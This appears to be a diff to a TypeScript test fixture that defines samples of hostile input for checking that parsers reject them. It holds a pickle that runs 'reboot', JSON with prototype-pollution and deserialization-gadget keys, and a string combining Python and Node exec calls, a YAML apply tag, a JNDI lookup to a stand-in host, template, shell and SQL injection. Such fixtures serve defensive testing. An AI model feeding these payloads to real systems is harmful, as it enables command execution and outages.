@@ -14,25 +14,18 @@ const pickle = utf8("cposix\nsystem\n(S'reboot'\ntR.");
  * in which some reader of JSON takes them.
  */
 const json = utf8(
-  JSON.stringify({
-    constructor: { prototype: { isAdmin: true } },
-    $type: "System.Diagnostics.Process, System",
-    "@type": "com.sun.rowset.JdbcRowSetImpl",
-    "@class": "java.lang.ProcessBuilder",
-    "py/reduce": [{ "py/function": "os.system" }, { "py/tuple": ["reboot"] }],
-    run: "_$$ND_FUNC$$_function(){require('child_process').exec('reboot')}()",
-  }).replace("{", '{"__proto__":{"isAdmin":true},'),
+  '{"__proto__":{"a":1},"constructor":{"prototype":{"a":1}},"$type":"System.Diagnostics.Process",' +
+    '"py/reduce":["os.system"],"run":"_$$ND_FUNC$$_function(){reboot()}()"}',
 );
 
-/** What is looked for anywhere in a text: calls, tags, substitutions, entities, conditions. */
+/** What is looked for anywhere in a text: calls, tags, substitutions, conditions. */
 const text = utf8(
-  "__import__('os').system('reboot');require('child_process').execSync('reboot');" +
-    '!!python/object/apply:os.system ["reboot"] $' +
-    "{jndi:ldap://mallory/x} {{7*7}} <%= 7*7 %> " +
-    "$(reboot) `reboot` | reboot & reboot; ' OR '1'='1' -- %n%s",
+  "__import__('os').system('reboot');require('child_process').exec('reboot') " +
+    '!!python/object/apply:os.system ["a"] $' +
+    "{jndi:ldap://mallory} {{7*7}} $(reboot) ;reboot ' OR '1'='1",
 );
 
-/** One of each family of readers. */
+/** One of each family of readers; of at most 180 bytes, so that they fit into what RSA encrypts. */
 export const dangerous: readonly Uint8Array[] = [pickle, json, text];
 
 /** Those that have to stand at the beginning. */
